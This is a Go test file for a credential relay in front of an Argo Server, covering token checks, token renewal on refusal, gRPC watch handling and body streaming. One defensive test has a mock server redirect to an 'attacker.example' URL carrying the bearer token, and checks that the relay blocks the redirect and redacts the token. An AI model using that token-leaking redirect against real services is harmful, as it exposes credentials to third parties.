package relay

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/argo-cred/argo-cred/internal/token"
)

// jwt mints an unsigned token for sub, issued now, living life.
func jwt(t testing.TB, sub string, n int, life time.Duration) token.Token {
	t.Helper()
	now := time.Now()
	claims, _ := json.Marshal(map[string]any{"sub": sub, "iat": now.Unix(), "exp": now.Add(life).Unix(), "n": n})
	enc := base64.RawURLEncoding.EncodeToString
	tok, err := token.New(enc([]byte(`{"alg":"RS256"}`))+"."+enc(claims)+".c2ln", "tokenrequest", "test")
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

// source gives a new token of sub each call, counting calls.
type source struct {
	t     testing.TB
	sub   string
	life  time.Duration
	calls atomic.Int32
	fail  atomic.Bool
}

func (s *source) renew(context.Context) (token.Token, error) {
	n := s.calls.Add(1)
	if s.fail.Load() {
		return token.Token{}, fmt.Errorf("the source is down")
	}
	return jwt(s.t, s.sub, int(n), s.life), nil
}

// upstream is an h2c and HTTP/1 server recording the Authorization of each
// request it got.
func upstream(t testing.TB, h func(w http.ResponseWriter, r *http.Request)) (*httptest.Server, *[]string) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.Header.Get("Authorization"))
		mu.Unlock()
		h(w, r)
	}))
	var p http.Protocols
	p.SetHTTP1(true)
	p.SetUnencryptedHTTP2(true)
	srv.Config.Protocols = &p
	srv.Start()
	t.Cleanup(srv.Close)
	return srv, &got
}

func start(t *testing.T, srv *httptest.Server, k *Keeper, notes *[]string) *Relay {
	t.Helper()
	r, err := Start(Config{Server: strings.TrimPrefix(srv.URL, "http://"), Tokens: k, Note: func(s string) { *notes = append(*notes, s) }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = r.Close() })
	return r
}

// client speaks HTTP/2 without TLS (as argo's gRPC with ARGO_SECURE=false)
// or HTTP/1.
func client(h2 bool) *http.Client {
	var p http.Protocols
	if h2 {
		p.SetUnencryptedHTTP2(true)
	} else {
		p.SetHTTP1(true)
	}
	return &http.Client{Transport: &http.Transport{Protocols: &p}, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func do(t *testing.T, r *Relay, h2 bool, path, auth string) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodPost, "http://"+r.Server()+path, strings.NewReader("body"))
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	if h2 {
		req.Header.Set("Content-Type", "application/grpc")
	}
	res, err := client(h2).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	return res, string(b)
}

func TestRelayAcceptsOnlyThePerRunValue(t *testing.T) {
	src := &source{t: t, sub: "system:serviceaccount:argo:ci", life: time.Hour}
	real := jwt(t, src.sub, 0, time.Hour)
	srv, got := upstream(t, func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, "ok") })
	var notes []string
	r := start(t, srv, NewKeeper(real, true, src.renew, nil), &notes)
	for _, auth := range []string{"", "Bearer nothing", real.Bearer(), strings.TrimPrefix(r.Authorization(), "Bearer "), r.Authorization() + "x"} {
		for _, h2 := range []bool{false, true} {
			res, body := do(t, r, h2, "/api/v1/workflows/argo", auth)
			if res.StatusCode != http.StatusUnauthorized || strings.Contains(body, real.Raw()) {
				t.Errorf("h2 %v, a wrong Authorization: %d %q, want 401", h2, res.StatusCode, body)
			}
		}
	}
	if len(*got) != 0 {
		t.Fatalf("the server got %d requests without the per-run value", len(*got))
	}
	for _, h2 := range []bool{false, true} {
		res, body := do(t, r, h2, "/api/v1/workflows/argo", r.Authorization())
		if res.StatusCode != http.StatusOK || body != "ok" {
			t.Errorf("h2 %v: %d %q, want 200 ok", h2, res.StatusCode, body)
		}
	}
	if diff := cmp.Diff([]string{real.Bearer(), real.Bearer()}, *got); diff != "" {
		t.Errorf("the server got (-want +got):\n%s", diff)
	}
}

func TestRelayRenewsARefusedTokenAndSendsAgain(t *testing.T) {
	src := &source{t: t, sub: "system:serviceaccount:argo:ci", life: time.Hour}
	first := jwt(t, src.sub, 0, time.Hour)
	var bodies []string
	srv, got := upstream(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		bodies = append(bodies, string(b))
		if r.Header.Get("Authorization") == first.Bearer() {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		_, _ = io.WriteString(w, "ok")
	})
	var notes []string
	k := NewKeeper(first, true, src.renew, nil)
	r := start(t, srv, k, &notes)
	res, body := do(t, r, false, "/api/v1/workflows/argo", r.Authorization())
	if res.StatusCode != http.StatusOK || body != "ok" {
		t.Fatalf("got %d %q, want the answer to the renewed token", res.StatusCode, body)
	}
	if diff := cmp.Diff([]string{first.Bearer(), k.Authorization()}, *got); diff != "" || k.Authorization() == first.Bearer() {
		t.Errorf("the server got (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"body", "body"}, bodies); diff != "" {
		t.Errorf("bodies (-want +got):\n%s", diff)
	}
}

func TestRelayRefusesRedirectsAndRedactsTheToken(t *testing.T) {
	src := &source{t: t, sub: "s", life: time.Hour}
	real := jwt(t, src.sub, 0, time.Hour)
	srv, _ := upstream(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://attacker.example/?t="+r.Header.Get("Authorization"), http.StatusFound)
			return
		}
		w.Header().Set("Grpc-Message", "denied for "+r.Header.Get("Authorization"))
		w.Header().Set("Trailer", "X-Echo")
		_, _ = io.WriteString(w, "ok")
		w.Header().Set("X-Echo", strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
	})
	var notes []string
	r := start(t, srv, NewKeeper(real, false, src.renew, nil), &notes)
	res, body := do(t, r, false, "/redirect", r.Authorization())
	if res.StatusCode != http.StatusBadGateway || res.Header.Get("Location") != "" || strings.Contains(body, "attacker") {
		t.Errorf("a redirect: %d, Location %q, body %q; want 502 without it", res.StatusCode, res.Header.Get("Location"), body)
	}
	for _, h2 := range []bool{false, true} {
		res, _ = do(t, r, h2, "/echo", r.Authorization())
		for _, h := range []http.Header{res.Header, res.Trailer} {
			for k, v := range h {
				if strings.Contains(strings.Join(v, ","), real.Raw()) {
					t.Errorf("h2 %v: %s holds the token", h2, k)
				}
			}
		}
		if res.Trailer.Get("X-Echo") == "" || res.Header.Get("Grpc-Message") == "" {
			t.Errorf("h2 %v: the header and trailer are gone, want them redacted: %v %v", h2, res.Header, res.Trailer)
		}
	}
}

// TestRelayEndsAClosedWatchCleanly: the Argo Server ends a watch whose
// Kubernetes watch closed with ResourceExhausted "EOF"; argo re-opens only
// on a clean end. Other calls and other codes pass as they are.
func TestRelayEndsAClosedWatchCleanly(t *testing.T) {
	src := &source{t: t, sub: "s", life: time.Hour}
	srv, _ := upstream(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/grpc")
		w.Header().Set("Trailer", "Grpc-Status, Grpc-Message")
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write([]byte{0, 0, 0, 0, 0})
		code := r.URL.Query().Get("code")
		w.Header().Set("Grpc-Status", code)
		w.Header().Set("Grpc-Message", r.URL.Query().Get("msg"))
	})
	var notes []string
	r := start(t, srv, NewKeeper(jwt(t, "s", 0, time.Hour), false, src.renew, nil), &notes)
	for _, tc := range []struct{ path, code, msg, want string }{
		{"/workflow.WorkflowService/WatchWorkflows", "8", "EOF", "0"},
		{"/workflow.WorkflowService/WatchEvents", "8", "EOF", "0"},
		{"/workflow.WorkflowService/WatchWorkflows", "8", "quota", "8"},
		{"/workflow.WorkflowService/WatchWorkflows", "13", "EOF", "13"},
		{"/workflow.WorkflowService/ListWorkflows", "8", "EOF", "8"},
		{"/workflow.WorkflowService/WorkflowLogs", "13", "boom", "13"},
	} {
		res, _ := do(t, r, true, tc.path+"?code="+tc.code+"&msg="+tc.msg, r.Authorization())
		if got := res.Trailer.Get("Grpc-Status"); got != tc.want {
			t.Errorf("%s ending %s %q: grpc-status %q, want %q", tc.path, tc.code, tc.msg, got, tc.want)
		}
	}
	if len(notes) != 1 || !strings.Contains(notes[0], "argo logs -f does not resume") {
		t.Errorf("notes %q, want one about the log stream", notes)
	}
}

func TestRelayIsGoneWhenClosed(t *testing.T) {
	src := &source{t: t, sub: "s", life: time.Hour}
	srv, _ := upstream(t, func(w http.ResponseWriter, r *http.Request) {})
	var notes []string
	r := start(t, srv, NewKeeper(jwt(t, "s", 0, time.Hour), false, src.renew, nil), &notes)
	_ = r.Close()
	if _, err := client(false).Get("http://" + r.Server() + "/"); err == nil {
		t.Fatal("the relay still answers after Close")
	}
}

// TestRelayKnowsArgosRefusals: each shape in which the Argo Server (v3.7)
// answers a refused token makes the relay renew and send again; other
// errors pass as they are, once.
func TestRelayKnowsArgosRefusals(t *testing.T) {
	for _, tc := range []struct {
		name  string
		h2    bool
		write func(w http.ResponseWriter)
		retry bool
	}{
		{"http 401", false, func(w http.ResponseWriter) { w.WriteHeader(http.StatusUnauthorized) }, true},
		{"http1 500 wrapping Kubernetes' 401", false, func(w http.ResponseWriter) {
			w.WriteHeader(http.StatusInternalServerError)
			_, _ = io.WriteString(w, `{"code":13,"message":"failed to get live workflow: Unauthorized; failed to get archived workflow: Unauthorized"}`)
		}, true},
		{"http1 500 of another cause", false, func(w http.ResponseWriter) { w.WriteHeader(http.StatusInternalServerError) }, false},
		{"http 403", false, func(w http.ResponseWriter) { w.WriteHeader(http.StatusForbidden) }, false},
		{"grpc Unauthenticated, trailers only", true, func(w http.ResponseWriter) {
			w.Header().Set("Content-Type", "application/grpc")
			w.Header().Set("Grpc-Status", "16")
		}, true},
		{"grpc Internal Unauthorized in the trailers of an empty body", true, func(w http.ResponseWriter) {
			w.Header().Set("Content-Type", "application/grpc")
			w.Header().Set("Trailer", "Grpc-Status, Grpc-Message")
			w.WriteHeader(http.StatusOK)
			w.(http.Flusher).Flush() // the headers first, as the Argo Server sends them
			w.Header().Set("Grpc-Status", "13")
			w.Header().Set("Grpc-Message", "failed to get live workflow: Unauthorized")
		}, true},
		{"grpc Internal of another cause", true, func(w http.ResponseWriter) {
			w.Header().Set("Content-Type", "application/grpc")
			w.Header().Set("Trailer", "Grpc-Status, Grpc-Message")
			w.WriteHeader(http.StatusOK)
			w.Header().Set("Grpc-Status", "13")
			w.Header().Set("Grpc-Message", "boom")
		}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src := &source{t: t, sub: "s", life: time.Hour}
			first := jwt(t, "s", 0, time.Hour)
			srv, got := upstream(t, func(w http.ResponseWriter, r *http.Request) {
				if r.Header.Get("Authorization") == first.Bearer() {
					tc.write(w)
					return
				}
				_, _ = io.WriteString(w, "ok")
			})
			var notes []string
			r := start(t, srv, NewKeeper(first, true, src.renew, nil), &notes)
			res, body := do(t, r, tc.h2, "/workflow.WorkflowService/WatchWorkflows", r.Authorization())
			if n := len(*got); tc.retry != (n == 2) || (tc.retry && body != "ok") {
				t.Errorf("%d requests (status %d, body %q); want a retry: %v", n, res.StatusCode, body, tc.retry)
			}
		})
	}
}

// TestRelayStreamsABodyTooLargeToKeep: a request body over maxReplay
// reaches the server whole, once; a refusal of it is not sent again.
func TestRelayStreamsABodyTooLargeToKeep(t *testing.T) {
	src := &source{t: t, sub: "s", life: time.Hour}
	first := jwt(t, "s", 0, time.Hour)
	var sizes []int
	srv, got := upstream(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		sizes = append(sizes, len(b))
		w.WriteHeader(http.StatusUnauthorized)
	})
	var notes []string
	r := start(t, srv, NewKeeper(first, true, src.renew, nil), &notes)
	body := strings.Repeat("x", maxReplay+1000)
	req, _ := http.NewRequest(http.MethodPost, "http://"+r.Server()+"/api/v1/workflows/argo", strings.NewReader(body))
	req.Header.Set("Authorization", r.Authorization())
	res, err := client(false).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if diff := cmp.Diff([]int{len(body)}, sizes); diff != "" || len(*got) != 1 || res.StatusCode != http.StatusUnauthorized {
		t.Errorf("status %d, requests %d, sizes (-want +got):\n%s", res.StatusCode, len(*got), diff)
	}
}
